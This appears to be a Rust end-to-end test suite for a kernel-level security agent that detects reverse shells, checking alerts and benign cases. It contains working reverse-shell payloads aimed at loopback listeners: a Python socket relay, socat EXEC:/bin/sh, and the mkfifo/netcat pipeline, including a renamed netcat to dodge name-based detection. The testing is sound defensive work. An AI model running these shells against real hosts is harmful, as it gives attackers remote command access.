//! Privileged end-to-end tests of reverse shells over relays, from the
//! kernel's evidence (the exec record's stdio block, bpf/relay.bpf.h):
//! a shell whose pipes or socket pair lead to a process holding an
//! internet socket. Loopback listeners of the test stand in for the
//! attacker; each test matches only its own processes (pids, ports).

mod common;

use std::fs;
use std::io::Read;
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use common::scenario::{Attacker, CONFIG, alerts, evidence, is_alert, shell_alerts, temp_dir};
use common::{Agent, get, pid_of, privileged, unique};
use serde_json::Value;

const PYTHON: &str = "/usr/bin/python3";

/// Run `script` with bash in its own process group.
fn bash(script: &str) -> Child {
    Command::new("/bin/bash")
        .args(["-c", script])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .unwrap()
}

/// End `c` and what it started (its process group), and reap it.
fn finish(mut c: Child) {
    let pgid = nix::unistd::Pid::from_raw(-(c.id() as i32));
    let _ = nix::sys::signal::kill(pgid, nix::sys::signal::Signal::SIGKILL);
    let _ = c.wait();
}

/// `cat FIFO | /bin/sh -i 2>&1 | RELAY 127.0.0.1 PORT > FIFO` under
/// bash, to `attacker`'s port, driven until the marker comes back; the
/// bash's pid.
fn fifo_pipeline(fifo: &str, relay: &str, attacker: &Attacker, marker: &str) -> u32 {
    let _ = fs::remove_file(fifo);
    let c = bash(&format!(
        "mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | {relay} 127.0.0.1 {} > {fifo}",
        attacker.port
    ));
    let pid = c.id();
    let got = attacker.drive(marker);
    assert!(got.contains(marker), "{got}");
    finish(c);
    pid
}

#[test]
fn shells_behind_relays_are_reverse_shells() {
    if !privileged("shells_behind_relays_are_reverse_shells") {
        return;
    }
    let agent = Agent::start(CONFIG);
    let marker = unique("relay");
    let (dir, _clean) = temp_dir("rg-relay");

    // 1. A python relay: it holds the TCP connection and feeds a shell
    // through subprocess pipes.
    let py = Attacker::new();
    let script = format!(
        "import socket,subprocess,threading\n\
         s=socket.create_connection(('127.0.0.1',{}))\n\
         p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,\
         stderr=subprocess.STDOUT)\n\
         def up():\n    for b in iter(lambda: p.stdout.read1(4096), b''): s.sendall(b)\n\
         threading.Thread(target=up,daemon=True).start()\n\
         for b in iter(lambda: s.recv(4096), b''):\n    p.stdin.write(b); p.stdin.flush()\n",
        py.port
    );
    let mut c = Command::new(PYTHON)
        .args(["-c", &script])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let py_pid = c.id();
    let got = py.drive(&marker);
    assert!(got.contains(&marker), "{got}");
    c.wait().unwrap();

    // 2. socat's EXEC: a socket pair between socat and the shell.
    let so = Attacker::new();
    let mut c = Command::new("/usr/bin/socat")
        .args([&format!("TCP:127.0.0.1:{}", so.port), "EXEC:/bin/sh"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let socat_pid = c.id();
    let got = so.drive(&marker);
    assert!(got.contains(&marker), "{got}");
    c.wait().unwrap();

    // 3. The mkfifo pipeline through a netcat under another name: no
    // relay name to go by, only the pipe the shell's stdout shares with
    // the connecting process's stdin.
    let relay = format!("{dir}/relayd");
    fs::copy("/usr/bin/nc.traditional", &relay).unwrap();
    let fifo = format!("{dir}/f");
    let mk = Attacker::new();
    let mk_pid = fifo_pipeline(&fifo, &relay, &mk, &marker);

    // 4. The same with nc itself: the relay's name says it too, and the
    // incident is still one alert.
    let nc = Attacker::new();
    let nc_bash = fifo_pipeline(&fifo, "/usr/bin/nc.traditional", &nc, &marker);

    agent.wait_for("the renamed relay's alert", |r| {
        is_alert(r, "rg-reverse-shell")
            && get(r, "rand_guard.alert.evidence")
                .as_array()
                .is_some_and(|e| e.iter().any(|e| get(e, "destination.port") == mk.port))
    });
    std::thread::sleep(Duration::from_millis(300));
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");

    // The python relay: critical, the relay and its connection named.
    let mine = shell_alerts(&records, py.port);
    assert_eq!(mine.len(), 1, "{mine:#?}");
    let a = mine[0];
    let shell = pid_of(a);
    assert_eq!(get(a, "event.severity"), 99);
    assert_eq!(get(a, "process.name"), "sh");
    assert_eq!(get(a, "process.parent.pid"), py_pid);
    assert_eq!(
        evidence(a),
        [("exec".into(), u64::from(py_pid)), ("exec".into(), shell)]
    );
    let message = get(a, "message").as_str().unwrap();
    assert!(
        message.starts_with(&format!(
            "shell pid {shell} reads commands through a relay: "
        )),
        "{message}"
    );
    assert!(
        message.ends_with(&format!(
            "(pid {py_pid}) holds its stdin, stdout, stderr and a socket to 127.0.0.1:{}",
            py.port
        )),
        "{message}"
    );
    // The exec event behind it: pipes on all three, held by the parent.
    let exec: Vec<&Value> = records
        .iter()
        .filter(|r| {
            r["record_type"] == "event" && get(r, "event.action") == "exec" && pid_of(r) == shell
        })
        .collect();
    assert_eq!(exec.len(), 1, "{exec:#?}");
    let s = get(exec[0], "rand_guard.stdio");
    assert_eq!(get(s, "stdin.type"), "pipe");
    assert_eq!(get(s, "stdout.type"), "pipe");
    assert_eq!(get(s, "stdout.inode"), get(s, "stderr.inode"));
    assert_eq!(
        get(s, "parent_holds"),
        &serde_json::json!(["stdin", "stdout", "stderr"])
    );
    assert_eq!(get(s, "parent_socket.remote_ip"), "127.0.0.1");
    assert_eq!(get(s, "parent_socket.remote_port"), py.port);

    // socat: one alert (the kernel's; the relay's name says it too), the
    // socket pair's ends in the exec event.
    let mine: Vec<&Value> = alerts(&records, "rg-reverse-shell")
        .into_iter()
        .filter(|a| get(a, "process.parent.pid") == socat_pid)
        .collect();
    assert_eq!(mine.len(), 1, "{mine:#?}");
    let a = mine[0];
    let shell = pid_of(a);
    assert_eq!(get(a, "event.severity"), 99);
    assert_eq!(evidence(a)[0], ("exec".into(), u64::from(socat_pid)));
    assert_eq!(
        get(a, "rand_guard.alert.evidence")[0]["destination"]["port"],
        so.port
    );
    let exec = records
        .iter()
        .find(|r| get(r, "event.action") == "exec" && pid_of(r) == shell)
        .unwrap();
    let s = get(exec, "rand_guard.stdio");
    assert_eq!(get(s, "stdin.type"), "unix");
    assert!(get(s, "stdin.peer_inode").as_u64().unwrap() > 0);
    assert_ne!(get(s, "stdin.peer_inode"), get(s, "stdin.inode"));
    assert_eq!(
        get(s, "parent_holds"),
        &serde_json::json!(["stdin", "stdout"])
    );

    // The renamed netcat: found by the pipe alone, at its connect.
    let mine = shell_alerts(&records, mk.port);
    assert_eq!(mine.len(), 1, "{mine:#?}");
    let a = mine[0];
    assert_eq!(get(a, "event.severity"), 99);
    assert_eq!(get(a, "event.action"), "connect");
    assert_eq!(get(a, "process.executable"), relay.as_str());
    assert_eq!(get(a, "process.parent.pid"), mk_pid);
    let ev = evidence(a);
    assert_eq!(ev[0], ("connect".into(), pid_of(a)));
    assert_eq!(ev[1].0, "exec");
    let message = get(a, "message").as_str().unwrap();
    assert_eq!(
        message,
        format!(
            "shell pid {} reads commands through a relay: {relay} (pid {}) holds its stdout, \
             stderr and a socket to 127.0.0.1:{}",
            ev[1].1,
            pid_of(a),
            mk.port
        )
    );

    // nc by its own name: one alert for the shell, whichever evidence won.
    let mine: Vec<&Value> = alerts(&records, "rg-reverse-shell")
        .into_iter()
        .filter(|a| get(a, "process.parent.pid") == nc_bash)
        .collect();
    assert_eq!(mine.len(), 1, "{mine:#?}");
}

#[test]
fn pipelines_that_are_no_relay_stay_quiet() {
    if !privileged("pipelines_that_are_no_relay_stay_quiet") {
        return;
    }
    let agent = Agent::start(CONFIG);
    let marker = unique("norelay");
    let (dir, _clean) = temp_dir("rg-norelay");
    let mut parents = Vec::new();
    let mut ports = Vec::new();

    // A user sending a listing over the network, and a shell with a
    // command line sending its output.
    for cmd in [
        "ls / | /usr/bin/nc.traditional -q 0 127.0.0.1 {port}".to_string(),
        format!("sh -c 'echo {marker}' | /usr/bin/nc.traditional -q 0 127.0.0.1 {{port}}"),
    ] {
        let a = Attacker::new();
        let c = bash(&cmd.replace("{port}", &a.port.to_string()));
        parents.push(c.id());
        ports.push(a.port);
        let (mut conn, _) = a.listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let mut got = String::new();
        let _ = conn.read_to_string(&mut got);
        assert!(!got.is_empty());
        finish(c);
    }

    // A shell running a script in a build pipeline.
    let script = format!("{dir}/build.sh");
    fs::write(&script, format!("echo {marker}\n")).unwrap();
    let mut c = Command::new("/bin/bash")
        .args(["-c", &format!("sh {script} | tee {dir}/log")])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    parents.push(c.id());
    c.wait().unwrap();
    assert!(
        fs::read_to_string(format!("{dir}/log"))
            .unwrap()
            .contains(&marker)
    );

    // ssh-like: a program holding a connection runs an interactive shell
    // on a pseudo-terminal, not on pipes.
    let a = Attacker::new();
    ports.push(a.port);
    let script = format!(
        "import os,pty,socket,subprocess\n\
         s=socket.create_connection(('127.0.0.1',{}))\n\
         m,t=os.openpty()\n\
         p=subprocess.Popen(['/bin/sh','-i'],stdin=t,stdout=t,stderr=t,start_new_session=True)\n\
         os.write(m,b'echo {marker}; exit\\n')\n\
         p.wait()\n",
        a.port
    );
    let mut c = Command::new(PYTHON)
        .args(["-c", &script])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pty_relay = c.id();
    parents.push(pty_relay);
    let (_conn, _) = a.listener.accept().unwrap();
    c.wait().unwrap();

    agent.wait_for("the pty shell's exec", |r| {
        get(r, "event.action") == "exec" && get(r, "process.parent.pid") == pty_relay
    });
    std::thread::sleep(Duration::from_millis(300));
    let (status, records, stderr) = agent.stop();
    assert!(status.success(), "{stderr}");

    // Nothing from these processes, their children or their ports.
    let mine: Vec<&Value> = alerts(&records, "rg-reverse-shell")
        .into_iter()
        .filter(|a| {
            parents
                .iter()
                .any(|p| pid_of(a) == u64::from(*p) || get(a, "process.parent.pid") == *p)
                || get(a, "rand_guard.alert.evidence")
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|e| ports.iter().any(|p| get(e, "destination.port") == *p))
        })
        .collect();
    assert!(mine.is_empty(), "{mine:#?}");
    // The pty shell's exec says why: a terminal on its stdio.
    let exec = records
        .iter()
        .find(|r| get(r, "event.action") == "exec" && get(r, "process.parent.pid") == pty_relay)
        .unwrap();
    assert!(get(exec, "rand_guard.stdio").is_null(), "{exec:#}");
}
